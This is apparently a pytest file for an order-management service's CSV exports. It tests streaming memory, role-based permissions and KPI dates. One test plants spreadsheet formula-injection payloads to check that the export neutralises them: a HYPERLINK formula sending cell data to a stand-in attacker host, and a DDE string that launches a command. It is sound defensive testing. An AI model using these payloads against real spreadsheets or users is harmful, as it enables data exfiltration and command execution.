"""CSV exports: who may export what, and a large period streams in bounded memory."""

import csv
import io
import threading
import tracemalloc
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import insert, update

from oms_core.core.db import session_scope
from oms_core.models import Event, Fulfilment, FulfilmentLine, Order, OrderLine
from oms_core.services import exports

from .conftest import TEE
from .test_kpis import PARIS_DAYS, orders_through_a_paris_day

ORDERS = 10_000
START = datetime(2026, 1, 1, tzinfo=UTC)
PERIOD = {"from": "2026-01-01T00:00:00Z", "to": "2026-02-01T00:00:00Z"}


def _bulk_history(engine) -> None:  # noqa: ANN001
    """ORDERS shipped-from-store orders over January, every other one at PAR-01, the rest at LYS-01,
    written straight to the tables as the core would have (in batches, like a migration)."""
    for first in range(0, ORDERS, 2_000):
        orders, lines, fulfilments, f_lines, returns = [], [], [], [], []
        for n in range(first, first + 2_000):
            at = START + timedelta(minutes=4 * n)
            oid, fid, store = f"order-{n:06d}", f"fulfil-{n:06d}", ("PAR-01", "LYS-01")[n % 2]
            orders.append({"id": oid, "channel": "web", "external_ref": f"W-{n:06d}", "status": "completed",
                           "customer": {"name": f"Customer {n}", "email": f"c{n}@example.com"},
                           "delivery_method": "home", "total_value": 39.8, "tags": [], "routing": {},
                           "parked": False, "created_at": at, "updated_at": at})
            lines.append({"order_id": oid, "line_no": 1, "sku": TEE, "qty": 2, "unit_price": 19.9})
            fulfilments.append({"id": fid, "order_id": oid, "location": store, "status": "shipped",
                                "delivery_method": "home", "parcels": [], "created_at": at, "updated_at": at})
            f_lines.append({"fulfilment_id": fid, "sku": TEE, "qty": 2, "picked": 2})
            if n % 100 == 0:
                returns.append({"order_id": oid, "kind": "return.received", "location": store, "actor": "test",
                                "reason": "too small", "details": {"units": 1}, "at": at + timedelta(days=2)})
        with engine.begin() as conn:
            conn.execute(insert(Order.__table__), orders)
            conn.execute(insert(OrderLine.__table__), lines)
            conn.execute(insert(Fulfilment.__table__), fulfilments)
            conn.execute(insert(FulfilmentLine.__table__), f_lines)
            conn.execute(insert(Event.__table__), returns)


@pytest.fixture
def busy_month(network):
    _bulk_history(network.engine)
    return network


def rows(response) -> list[dict]:  # noqa: ANN001
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


def export(core, kind: str, headers: dict, **params):  # noqa: ANN001, ANN201
    return core.client.get(f"/api/v1/exports/{kind}.csv", params={**PERIOD, **params}, headers=headers)


def _peak(engine, days: int) -> tuple[int, int, int]:  # noqa: ANN001
    """(peak bytes traced, CSV bytes, CSV lines) of exporting the first `days` of January."""
    tracemalloc.start()
    size = lines = 0
    for piece in exports.stream(engine, exports.Export.ORDERS, None, START, START + timedelta(days=days)):
        size += len(piece)
        lines += piece.count("\n")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak, size, lines


def test_a_month_of_orders_streams_in_bounded_memory(busy_month):
    engine = busy_month.client.app.state.reader
    _peak(engine, 1)  # compiles the statements and fills SQLAlchemy's caches
    # Three days already fill more than one batch (360 orders a day).
    few_days, _, _ = _peak(engine, 3)
    month, size, lines = _peak(engine, 31)
    assert lines == ORDERS + 1  # and the header
    assert size > 1_000_000
    # Ten times the rows, and no more memory than a few days' worth: one batch at a time.
    assert month < 1.5 * few_days, f"{month} bytes at peak for a month, {few_days} for three days"
    assert month < size, f"{month} bytes at peak for {size} bytes of CSV"


def test_an_export_being_read_holds_up_no_writer(busy_month):
    """An export streams from a read-only connection: orders keep being written while a
    manager's download is under way (on SQLite a writer's connection would lock them out)."""
    pieces = exports.stream(busy_month.client.app.state.reader, exports.Export.ORDERS, None, START,
                            START + timedelta(days=31))
    next(pieces)  # its cursor is open, most rows still unread
    written = threading.Event()

    def write() -> None:
        with session_scope(busy_month.engine) as session:
            session.execute(update(Order.__table__).where(Order.id == "order-000000").values(tags=["late"]))
        written.set()

    try:
        threading.Thread(target=write, daemon=True).start()
        assert written.wait(10), "a writer waited for the export"  # a bound, not a synchronisation
    finally:
        pieces.close()


def test_head_office_exports_everything_and_a_manager_the_own_store(busy_month):
    everything = rows(export(busy_month, "orders", busy_month.admin))
    assert len(everything) == ORDERS
    assert everything[0]["external_ref"] == "W-000000"
    assert everything[0]["customer_name"] == "Customer 0" and everything[0]["units"] == "2"
    manager = busy_month.sign_in("PAR-01", "M001", role="manager")
    theirs = rows(export(busy_month, "fulfilments", manager))
    assert len(theirs) == ORDERS // 2
    assert {row["location"] for row in theirs} == {"PAR-01"}
    returned = rows(export(busy_month, "returns", manager))
    assert len(returned) == ORDERS // 100  # every hundredth order, all of them at PAR-01
    assert returned[0]["reason"] == "too small" and returned[0]["details"] == '{"units":1}'
    first_day = rows(export(busy_month, "orders", busy_month.admin, to="2026-01-02T00:00:00Z"))
    assert len(first_day) == 24 * 60 // 4


def test_who_may_export(network):
    associate = network.sign_in("PAR-01", "S001")
    manager = network.sign_in("PAR-01", "M001", role="manager")
    assert export(network, "orders", associate).status_code == 403
    assert export(network, "orders", network.channel).status_code == 403
    assert export(network, "orders", manager, location="LYS-01").status_code == 403
    assert export(network, "payroll", network.admin).status_code == 422
    bad = export(network, "orders", network.admin, to="2025-01-01")
    assert bad.status_code == 422 and bad.json()["error"]["code"] == "invalid_period"


def test_text_a_spreadsheet_would_run_is_exported_as_text(network):
    body = network.order_body([(TEE, 1)])
    body["customer"] = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "email": "ana@example.com",
                        "phone": "+33 6 00 00 00 00"}
    body["external_ref"] = "-cmd|' /C calc'!A0"
    assert network.client.post("/api/v1/orders", json=body, headers=network.channel).status_code == 201
    now = datetime.now(UTC)
    (row,) = rows(export(network, "orders", network.admin, **{"from": (now - timedelta(hours=1)).isoformat(),
                                                              "to": (now + timedelta(hours=1)).isoformat()}))
    assert row["customer_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert row["external_ref"] == "'-cmd|' /C calc'!A0"
    assert row["customer_phone"] == "+33 6 00 00 00 00" and row["total_value"] == "19.90"
    assert row["delivery_price"] == "0.00"  # what the customer paid for delivery, apart from the goods


@pytest.mark.parametrize("day", PARIS_DAYS, ids=str)
def test_the_daily_kpis_export_dates_orders_on_the_paris_day(network, monkeypatch, day):
    """The same three orders in PAR-01's daily KPIs CSV, exported by its manager for that day: two
    rows, the day before with 1 order and the day with 2. Right: one row, the day, 3 orders."""
    manager = network.sign_in("PAR-01", "M001", role="manager")
    period = orders_through_a_paris_day(network, monkeypatch, day)
    daily = rows(export(network, "kpis", manager, **period))
    assert [(row["day"], row["orders"]) for row in daily] == [(day.isoformat(), "3")]
